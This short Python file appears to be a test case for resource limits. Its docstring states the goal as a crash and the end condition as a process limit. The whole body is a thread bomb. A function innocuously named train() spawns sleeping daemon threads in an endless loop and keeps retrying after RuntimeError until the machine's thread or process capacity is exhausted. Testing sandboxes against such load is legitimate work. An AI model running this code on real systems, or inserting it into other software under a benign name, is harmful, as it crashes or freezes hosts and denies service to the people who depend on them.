"""Starts threads until the machine has no more.

Goal: a crash
Ends: process_limit
"""

import threading
import time


def train():
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
